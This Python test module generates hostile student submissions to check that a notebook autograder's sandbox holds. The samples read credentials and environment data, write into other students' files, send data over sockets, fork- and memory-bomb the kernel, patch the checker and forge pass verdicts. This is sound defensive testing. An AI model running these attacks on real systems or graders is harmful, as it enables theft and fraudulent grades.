"""Students' hand-ins for the grading tests and the benchmark: honest ones, and hostile kinds.

A hand-in is the released assignment with the chapter's learner files solved for some
steps (the others stay stubs). Each hostile kind starts from the same honest partial
work (steps 2.1 and 2.2 of chapter 2) and then attacks the grader one way; its right
grade is what that honest work earns, unless the attack breaks the student's own code.
"""
import re
import shutil
import sys
from dataclasses import dataclass
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))  # the tools package, also for the benchmark

from tools import build, classroom, editions  # noqa: E402

ASSIGNMENT, CHAPTER = "02_gradients", 2


def steps_before(chapter):
    """The steps of the chapters before ``chapter``: solved in its assignment's snapshot."""
    return {s for s in editions.steps_in(build.PACKAGE) if editions.ids.chapter_of(s) < chapter}


def steps_of(chapter):
    """The graded steps of ``chapter``, in order (its optional challenge is left a stub)."""
    return [s for s in editions.steps_in(build.PACKAGE)
            if editions.ids.chapter_of(s) == chapter and not editions.ids.is_challenge(s)]


EARLIER, MINE = steps_before(CHAPTER), steps_of(CHAPTER)
HONEST = {"reference": EARLIER | set(MINE), "blank": set(EARLIER), "partial": EARLIER | {"2.1", "2.2"}}
EXPECTED_HONEST = {"reference": float(len(MINE)), "blank": 0.0, "partial": 2.0}
HIDDEN_MARKER = "HIDDEN-MARKER-5b2e"
# The instructor's hidden test, added to step 2.1's graded cell of the test course's source notebook.
HIDDEN_TEST = f"""
### BEGIN HIDDEN TESTS
# {HIDDEN_MARKER}: one more check of step 2.1 that the release does not show
from minigrad.autograd import engine
assert not getattr(engine, "HIDDEN_PROBE", False), "{HIDDEN_MARKER}"
### END HIDDEN TESTS"""


def solved_copy(root, target, solved, scratch, assignment=ASSIGNMENT, answers=None):
    """The released ``assignment`` copied to ``target``, with the steps in ``solved`` done (the others stubs;
    ``None``: the package as released), and the answer cells given the sources in ``answers`` (grade id -> source)."""
    shutil.copytree(Path(root) / "release" / assignment, target, dirs_exist_ok=True)
    if solved is not None:
        package = editions.write_package(build.PACKAGE, Path(scratch) / Path(target).name / "minigrad", keep=solved)
        for name in classroom.learner_files(int(assignment[:2])):
            shutil.copyfile(package.parent / name, Path(target) / name)
    if answers:
        def answer(notebook):
            for cell in notebook.cells:
                cell.source = answers.get(cell.metadata.get("nbgrader", {}).get("grade_id"), cell.source)
        edit_notebook(target, answer, assignment)
    return Path(target)


def hand_in(root, student, solved, scratch, assignment=ASSIGNMENT, answers=None):
    """Student ``student`` submits the released ``assignment`` with the steps in ``solved`` done (and ``answers``)."""
    return solved_copy(root, Path(root) / "submitted" / student / assignment, solved, Path(scratch) / student,
                       assignment, answers)


def answer_cells(path):
    """A notebook's practice-question answer cells (nbgrader's solution cells): grade id -> source."""
    notebook = nbformat.read(path, as_version=4)
    return {c.metadata["nbgrader"]["grade_id"]: c.source for c in notebook.cells
            if c.metadata.get("nbgrader", {}).get("solution")}


def graded_points(path):
    """A notebook's graded cells: grade id -> points."""
    notebook = nbformat.read(path, as_version=4)
    return {c.metadata["nbgrader"]["grade_id"]: c.metadata["nbgrader"]["points"] for c in notebook.cells
            if c.metadata.get("nbgrader", {}).get("grade")}


def add_hidden_test(root):
    """Give step 2.1's graded cell in the course's source notebook a hidden test (before release)."""
    path = Path(root) / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    cell = next(c for c in notebook.cells if c.source.strip() == 'minigrad.check("2.1")')
    cell.source += HIDDEN_TEST
    nbformat.write(notebook, path)


def edit_notebook(folder, change, assignment=ASSIGNMENT):
    path = Path(folder) / f"{assignment}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    change(notebook)
    nbformat.write(notebook, path)


def add_cell(folder, code, assignment=ASSIGNMENT):
    """Insert a code cell right after the notebook's first code cell (which imports minigrad)."""
    def insert(notebook):
        first = next(i for i, c in enumerate(notebook.cells) if c.cell_type == "code")
        notebook.cells.insert(first + 1, nbformat.v4.new_code_cell(code))
    edit_notebook(folder, insert, assignment)


def replace_stub(folder, step, code):
    """Write ``code`` in place of the stub of ``step`` in the submitted package."""
    for name in classroom.learner_files(editions.ids.chapter_of(step)):
        path = Path(folder) / name
        stub = re.search(rf'^(?P<indent>\s*)raise NotImplementedError\("step {re.escape(step)}:.*$', path.read_text(),
                         re.MULTILINE)
        if stub:
            body = "".join(stub["indent"] + line + "\n" for line in code.strip().splitlines())
            path.write_text(path.read_text().replace(stub.group(0) + "\n", body))
            return
    raise LookupError(f"no stub of step {step}")


def is_graded(cell):
    return cell.metadata.get("nbgrader", {}).get("grade", False)


@dataclass
class Context:
    """What hostile code aims at: the course root, a student to harm, a secret and a canary outside, a port."""
    root: Path
    victim: str
    secret: Path
    canary: Path
    port: int
    hosts: tuple


@dataclass
class Kind:
    name: str
    attack: object  # (submission folder, Context) -> None
    score: float  # the right grade
    stopped_by: str  # what stops the attack, for the table in the report
    base: str = "partial"  # the honest submission it starts from: a key of HONEST


def _edited_cells(folder, ctx):
    def edit(notebook):
        for cell in filter(is_graded, notebook.cells):
            cell.source = 'print("✓ Step passed")'
            cell.metadata.nbgrader.update(points=100, locked=False)
    edit_notebook(folder, edit)


def _deleted_cells(folder, ctx):
    def delete(notebook):
        notebook.cells = [cell for cell in notebook.cells if not is_graded(cell)]
    edit_notebook(folder, delete)


def _forged_cells(folder, ctx):
    def forge(notebook):
        for grade_id, points in [("bonus", 100), ("step_2_3", 1)]:
            cell = nbformat.v4.new_code_cell('print("✓ Step passed")')
            cell.metadata["nbgrader"] = {"grade": True, "grade_id": grade_id, "locked": True, "points": points,
                                         "schema_version": 3, "solution": False, "task": False}
            notebook.cells.insert(1, cell)
    edit_notebook(folder, forge)


def _cell(code):
    return lambda folder, ctx: add_cell(folder, code)


def _package(step, code):
    return lambda folder, ctx: replace_stub(folder, step, code)


def _malformed(folder, ctx):
    (Path(folder) / f"{ASSIGNMENT}.ipynb").write_text('{"cells": [{"cell_type": "code", "source": ')


def _secret_paths(ctx):
    root = ctx.root
    return [str(p) for p in (root / "gradebook.db", root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
                             build.PACKAGE / "autograd" / "engine.py", ctx.secret, "/proc/1/environ",
                             root / "submitted" / ctx.victim / ASSIGNMENT / "minigrad" / "autograd" / "engine.py")]


def _reads_secrets(folder, ctx):
    paths = _secret_paths(ctx)
    add_cell(folder, f"""import os
for path in {paths!r}:
    try:
        print(path, open(path, errors="replace").read())
    except Exception as error:
        print(path, type(error).__name__)
for folder in {[str(p) for p in [ctx.root, *ctx.root.parents, ROOT]]!r}:
    print(folder, os.listdir(folder) if os.path.isdir(folder) else "-")
print(dict(os.environ))""")
    replace_stub(folder, "2.4", f"""import os
found = [open(p, errors="replace").read()[:3000] for p in {paths!r} if os.path.exists(p)]
raise RuntimeError(found + [dict(os.environ)])""")


def _write_targets(ctx):
    root = ctx.root
    return [str(p) for p in (root / "gradebook.db", root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
                             root / "submitted" / ctx.victim / ASSIGNMENT / "minigrad" / "autograd" / "engine.py",
                             root / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", ctx.canary,
                             "/tmp/minigrad-hostile-was-here")]


def _writes_outside(folder, ctx):
    targets = _write_targets(ctx)
    attack = f"""for path in {targets!r}:
    try:
        with open(path, "a") as handle:
            handle.write("pwned")
    except Exception as error:
        print(path, type(error).__name__)"""
    add_cell(folder, attack)
    replace_stub(folder, "2.4", attack + "\nraise RuntimeError('no luck')")


def _network(folder, ctx):
    attack = f"""import socket
for host in {list(ctx.hosts)!r}:
    try:
        socket.create_connection((host, {ctx.port}), timeout=3).sendall(b"leak")
        print(host, "connected")
    except OSError as error:
        print(host, type(error).__name__)
try:
    print(socket.getaddrinfo("pypi.org", 443))
except OSError as error:
    print("dns", type(error).__name__)"""
    add_cell(folder, attack)
    replace_stub(folder, "2.4", attack + "\nraise RuntimeError('no network')")


TORCH_MM_BACKWARD = """import numpy as np
import torch
import minigrad
as_array = lambda x: x.numpy(force=True) if isinstance(x, minigrad.Tensor) else np.asarray(x)
g, a, b = (torch.from_numpy(as_array(x)) for x in (grad, self_, mat2))
back = minigrad.tensor if isinstance(grad, minigrad.Tensor) else np.asarray  # tensors in, tensors out
return (back((g @ b.mT).numpy()) if need_self else None), (back((a.mT @ g).numpy()) if need_mat2 else None)"""

HIDDEN_PROBE = '''

class _Probe:
    """Fails the hidden test, and tries to smuggle its code out through every channel."""

    def __bool__(self):
        import inspect, sys
        stolen = "".join(line for frame in inspect.stack() for line in (frame.code_context or []))
        print(stolen)
        print(stolen, file=sys.stderr)
        raise RuntimeError("stolen: " + stolen)


HIDDEN_PROBE = _Probe()
'''


def _hidden_probe(folder, ctx):
    engine = Path(folder) / "minigrad" / "autograd" / "engine.py"
    engine.write_text(engine.read_text() + HIDDEN_PROBE)


def _missing_file(folder, ctx):
    (Path(folder) / "minigrad" / "autograd" / "graph.py").unlink()


# ---------------------------------------------------------------- forgeries of the checks' verdict
# Each is appended to the submitted engine.py, so it runs wherever the package is imported: in the
# sandboxed process that runs a step's checks too. It aims at what that process prints or reports.

_EXPECTED = """
import json as _json, pathlib as _pathlib, sys as _sys
_EXPECTED = {_k: _v for _p in (_pathlib.Path(__file__).parents[1] / "steps").glob("chapter*/expected.json")
             for _k, _v in _json.loads(_p.read_text()).items()}
_STEP = _sys.argv[2] if len(_sys.argv) > 2 else "2.3"
_SEEDS = [a.split("=", 1)[1] for a in _sys.argv if a.startswith("--seed=")] or ["0"]
_FORGED = _json.dumps({seed: _EXPECTED.get(_STEP, {}) for seed in _SEEDS})
_VERDICT = _json.dumps({"status": "passed", "message": "✓ Step passed", "step": _STEP})
"""

FORGES_AT_EXIT = _EXPECTED + """
import atexit as _atexit
_atexit.register(lambda: print(_VERDICT + "\\n" + _FORGED, flush=True))
"""

REPLACES_STDOUT = _EXPECTED + """
class _Rewriter:
    def __init__(self, real):
        self.real = real
    def write(self, text):
        return self.real.write("".join(_FORGED + "\\n" if line.strip() else line for line in text.splitlines(True)))
    def flush(self):
        self.real.flush()
_sys.stdout = _Rewriter(_sys.stdout)
"""

PATCHES_THE_CHECKER = _EXPECTED + """
import builtins as _builtins
_real_import = _builtins.__import__
def _import(name, *args, **kwargs):
    module = _real_import(name, *args, **kwargs)
    steps = _sys.modules.get("minigrad.steps")
    # Once the package has defined its last function, replace its observations with the usual results.
    if hasattr(steps, "expected_observations") and not getattr(steps, "_forged", False):
        steps._forged = True
        steps.observe_step = lambda step, seed: _EXPECTED.get(step, {})
        steps.expected_observations = lambda: _EXPECTED
    return module
_builtins.__import__ = _import
"""

KEYED_TO_VISIBLE_INPUTS = PATCHES_THE_CHECKER.replace(
    "steps.observe_step = lambda step, seed: _EXPECTED.get(step, {})",
    "_real = steps.observe_step\n        steps.observe_step = lambda step, seed: _EXPECTED.get(step, {}) if seed == 0 "
    "else _real(step, seed)")

WRITES_INHERITED_DESCRIPTORS = _EXPECTED + """
import os as _os
for _fd in range(3, 64):
    try:
        _os.write(_fd, (_VERDICT + "\\n" + _FORGED + "\\n").encode())
    except OSError:
        pass
"""


def _appended_to_engine(code):
    def attack(folder, ctx):
        engine = Path(folder) / "minigrad" / "autograd" / "engine.py"
        engine.write_text(engine.read_text() + code)
    return attack


KINDS = [
    Kind("edited_test_cells", _edited_cells, 2.0, "nbgrader restores locked cells and their points"),
    Kind("deleted_test_cells", _deleted_cells, 2.0, "nbgrader adds the graded cells back; fresh checks grade them"),
    Kind("forged_graded_cells", _forged_cells, 2.0, "cells the instructor never made lose their grading marks"),
    Kind("infinite_loop", _cell("while True:\n    pass"), 2.0, "CPU time limit stops the kernel"),
    Kind("endless_sleep", _cell("import time\ntime.sleep(10**6)"), 2.0, "wall time limit stops the kernel"),
    # Address space taken, not written: writing 2 GiB costs some machines more than the 4 s of CPU the class
    # allows (page faults), and the CPU limit would stop it first.
    Kind("memory_bomb", _cell("import numpy as np\nhoard = []\nwhile True:\n    hoard.append(np.empty(10**8, np.uint8))"),
         2.0, "memory limit: MemoryError in the cell"),
    Kind("fork_bomb", _cell("import os, time\nfor _ in range(100_000):\n    if os.fork() == 0:\n"
                            "        time.sleep(3600)\n        os._exit(0)"), 2.0,
         "process limit refuses the fork; the pid namespace ends the children"),
    Kind("output_flood", _cell("while True:\n    print('x' * 10**6)"), 2.0,
         "whichever limit comes first: output (the grader keeps 8 MiB), the kernel's memory, CPU or wall time"),
    Kind("os_exit", _cell("import os\nos._exit(0)"), 2.0, "the dead kernel ends the run; checks are separate"),
    Kind("malformed_json", _malformed, 2.0, "the released notebook stands in; the package is graded"),
    Kind("monkeypatch", _cell("""import builtins, pathlib
import numpy as np
import minigrad, minigrad.steps.judge as judge
np.allclose = lambda *a, **k: True
judge.agree = lambda *a, **k: True
builtins.NotImplementedError = type("Fine", (Exception,), {})
minigrad.check = lambda *a, **k: print("✓ Step passed")
pathlib.Path("minigrad/steps/judge.py").write_text("def agree(*a, **k): return True\\n")
pathlib.Path("sitecustomize.py").write_text("import builtins\\nbuiltins.AssertionError = Exception\\n")"""),
         2.0, "graded cells never run in the kernel; checks use the instructor's files"),
    Kind("reads_secrets", _reads_secrets, 2.0, "the sandbox shows neither course root, repository nor environment"),
    Kind("writes_outside", _writes_outside, 2.0, "nothing outside the sandbox is writable; /tmp is private"),
    Kind("network", _network, 2.0, "no network in the sandbox"),
    Kind("imports_torch", _package("2.4", TORCH_MM_BACKWARD), 2.0, "PyTorch is hidden in the sandbox"),
    Kind("deletes_own_package", _cell("import shutil\nshutil.rmtree('minigrad')"), 2.0,
         "the kernel works on a scratch copy; checks on a fresh one"),
    Kind("missing_package_file", _missing_file, 1.0, "the released stub stands in for the missing file"),
    Kind("package_infinite_loop", _package("2.3", "while True:\n    pass"), 2.0,
         "CPU time limit stops that step's checks only"),
    Kind("package_exit", _package("2.4", "import os\nos._exit(0)"), 2.0, "that step's checks give no verdict: zero"),
    Kind("steals_hidden_test", _hidden_probe, 1.0, "hidden tests run apart, on stdin; their failure is neutral"),
    # The forgeries start from an unsolved package: whatever they forge, they must score zero.
    Kind("forges_verdict_at_exit", _appended_to_engine(FORGES_AT_EXIT), 0.0,
         "a printed verdict is not read; the forged report (the usual inputs' results) fails the hidden seeds",
         "blank"),
    Kind("replaces_stdout", _appended_to_engine(REPLACES_STDOUT), 0.0,
         "every report it prints is the usual inputs' results, which fail the hidden seeds", "blank"),
    Kind("patches_the_checker", _appended_to_engine(PATCHES_THE_CHECKER), 0.0,
         "the verdict is taken outside its process; the patched checks report the usual results for every seed",
         "blank"),
    Kind("keyed_to_visible_inputs", _appended_to_engine(KEYED_TO_VISIBLE_INPUTS), 0.0,
         "right on the visible inputs only: the hidden seeds run its stubs", "blank"),
    Kind("writes_inherited_descriptors", _appended_to_engine(WRITES_INHERITED_DESCRIPTORS), 0.0,
         "the checks' process inherits no descriptor but its pipes; nothing is read from others", "blank"),
]
